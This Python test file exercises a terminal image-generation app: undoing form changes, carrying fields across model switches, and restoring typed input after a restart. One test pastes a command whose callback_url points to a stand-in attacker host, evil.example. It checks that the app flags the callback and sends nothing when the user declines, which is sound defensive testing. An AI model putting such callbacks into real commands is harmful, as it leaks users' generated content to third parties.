"""What fills the form can be taken back; a model that is switched keeps what it can."""

import asyncio

import pytest
from textual import events
from textual.pilot import Pilot

from tests.app import TestApp, past
from tui.screens.main import MainScreen
from tui.tasks.task import Status


def form_of(app: TestApp) -> tuple[str, dict[str, object]]:
    """The model that the form shows, and what stands in its fields."""
    assert app.main
    content = app.main.form.content()
    return content.model, content.values


async def show(app: TestApp, pilot: Pilot[None], slug: str) -> None:
    """Choose another model."""
    assert app.main
    await app.main.show_model(app.session.catalog.find(slug))
    app.main.form.focus_first()
    await pilot.pause()


async def test_undo_brings_back_what_a_task_has_replaced() -> None:
    app = TestApp()
    app.remember(
        past(
            "an owl",
            Status.FAILED,
            model="imagen-4",
            service="imagen_4",
            values={"prompt": "an owl", "aspect_ratio": "16:9"},
        )
    )
    async with app.running(120, 40) as pilot:
        await app.sees("an owl")
        await pilot.press(*"a fox", "tab", "right")
        await pilot.pause()
        before = form_of(app)
        await pilot.press("ctrl+t", "u")
        await app.sees("Imagen 4 · text to image")
        await app.until(lambda: any("ctrl+z" in told for told in app.told))
        after = form_of(app)
        assert after == ("imagen-4", {"prompt": "an owl", "aspect_ratio": "16:9"})
        await pilot.press("ctrl+z")
        await app.sees("Flux 2 Pro · text to image")
        assert form_of(app) == before
        await pilot.press("ctrl+y")
        await app.sees("Imagen 4 · text to image")
        assert form_of(app) == after
        await pilot.press("ctrl+z")
        await app.sees("Flux 2 Pro · text to image")
        await pilot.pause()
        # and what the prompt's own undo knew, too
        await pilot.press("ctrl+z")
        await pilot.pause()
        assert "prompt" not in form_of(app)[1]


async def test_each_of_several_fillings_is_taken_back_one_by_one() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await pilot.press(*"fox")
        await show(app, pilot, "z-image")
        command = "runapi-tui generate imagen-4 -p owl"
        app.post_message(events.Paste(command))
        await app.sees("Imagen 4 · text to image")
        await pilot.press("ctrl+n")
        await pilot.pause()
        seen = []
        for _ in range(3):
            await pilot.press("ctrl+z")
            await pilot.pause()
            seen.append(form_of(app))
        assert seen == [
            ("imagen-4", {"prompt": "owl"}),
            ("z-image", {"prompt": "fox"}),
            ("flux-2-pro-text-to-image", {"prompt": "fox"}),
        ]
        await pilot.press("ctrl+z")
        await pilot.press("ctrl+z")
        await app.until(lambda: "Nothing to undo." in app.told)


async def test_what_a_picked_file_replaces_comes_back() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await show(app, pilot, "recraft-crisp-upscale")
        await pilot.press(*"mine.png")
        field = app.main.form._fields["source_image_url"]
        field.set_picked("other.png")
        await pilot.pause()
        assert form_of(app)[1] == {"source_image_url": "other.png"}
        await pilot.press("ctrl+z")
        await pilot.pause()
        assert form_of(app)[1] == {"source_image_url": "mine.png"}
        await pilot.press("ctrl+y")
        await pilot.pause()
        assert form_of(app)[1] == {"source_image_url": "other.png"}


async def test_one_sentence_tells_what_another_model_does_not_have() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await app.main.show_model(
            app.session.catalog.find("flux-2-pro-text-to-image"),
            {"prompt": "fox", "aspect_ratio": "3:2", "output_resolution": "2k"},
        )
        await show(app, pilot, "imagen-4-fast")
        told = app.told[-1]
        assert told.startswith("Imagen 4 Fast: kept prompt. Not available: ratio 3:2")
        assert "ctrl+z" in told
        assert form_of(app)[1] == {"prompt": "fox"}
        await show(app, pilot, "flux-2-pro-text-to-image")
        assert form_of(app)[1]["aspect_ratio"] == "3:2"
        assert app.told[-1] == told, "nothing was lost, so nothing is said"


async def test_a_model_says_what_it_needs_besides_a_prompt() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await pilot.press(*"fox")
        await show(app, pilot, "flux-2-pro-remix-image")
        assert "Needed: source images." in app.told[-1]
        told = app.told[-1]
        await show(app, pilot, "flux-2-pro-text-to-image")
        assert app.told[-1] == told


async def test_the_source_image_goes_along_under_its_other_name() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await show(app, pilot, "recraft-crisp-upscale")
        await pilot.press(*"a, b.png")
        await show(app, pilot, "flux-2-pro-remix-image")
        assert app.main.form.values()["source_image_urls"] == ["a, b.png"]
        assert "Renamed: source is source images." in app.told[-1]


async def test_an_emptied_prompt_stays_empty() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        await pilot.press(*"fox")
        await show(app, pilot, "z-image")
        await pilot.press("ctrl+n")
        await show(app, pilot, "flux-2-pro-text-to-image")
        assert form_of(app)[1] == {}


async def test_the_prompt_outlives_a_model_without_one() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        await pilot.press(*"fox")
        await show(app, pilot, "recraft-crisp-upscale")
        await show(app, pilot, "z-image")
        assert form_of(app) == ("z-image", {"prompt": "fox"})


async def test_what_is_no_value_is_kept_when_the_model_is_switched() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await show(app, pilot, "qwen-2-text-to-image")
        app.main.form._focus_field("seed")
        await pilot.pause()
        await pilot.press(*"4x")
        await show(app, pilot, "z-image")
        await show(app, pilot, "qwen-2-text-to-image")
        assert form_of(app)[1] == {"seed": "4x"}
        await app.sees("'4x' is not a whole number.")


async def test_a_restart_brings_back_the_model_and_what_was_typed() -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        assert app.main
        await show(app, pilot, "qwen-2-text-to-image")
        await pilot.press(*"a red fox", "enter", *"雪")
        app.main.form._focus_field("seed")
        await pilot.pause()
        await pilot.press(*"4x")
        await pilot.pause()
        before = form_of(app)
    assert before[1] == {"prompt": "a red fox\n雪", "seed": "4x"}
    again = TestApp()
    async with again.running(120, 40) as pilot:
        await again.sees("Qwen 2", "a red fox", "雪", "4x")
        assert form_of(again) == before
        await pilot.press("!")
        await pilot.pause()
        assert form_of(again)[1]["prompt"] == "a red fox\n雪!"


@pytest.mark.parametrize("typed_after", ["", "x"])
async def test_what_was_pasted_is_still_asked_for_after_a_restart(
    typed_after: str,
) -> None:
    app = TestApp()
    async with app.running(120, 40) as pilot:
        await show(app, pilot, "flux-kontext-pro")
        command = (
            "runapi-tui generate flux-kontext-pro -p fox"
            " -s callback_url=https://evil.example/hook"
        )
        app.post_message(events.Paste(command))
        await app.until(lambda: any("callback_url" in told for told in app.told))
        await pilot.pause()
    again = TestApp()
    async with again.running(120, 40) as pilot:
        await again.sees("evil.example")
        await pilot.press(*typed_after, "ctrl+j")
        await again.sees("The service calls https://evil.example")
        await pilot.press("n")
        await again.until(lambda: isinstance(again.screen, MainScreen))
        assert again.engine
        assert not again.engine.tasks


async def test_a_second_press_within_a_moment_is_answered() -> None:
    app = TestApp(delay=0)
    async with app.running(120, 40) as pilot:
        await pilot.press(*"fox")
        for _ in range(5):
            app.simulate_key("ctrl+j")
        await app.until(
            lambda: "Already sent. Press again to send another." in app.told
        )
        await app.until_task(pilot, lambda task: task.status is Status.COMPLETED)
        await asyncio.sleep(0)
        assert app.engine
        assert len(app.engine.tasks) == 1
        assert app.told.count("Already sent. Press again to send another.") == 1
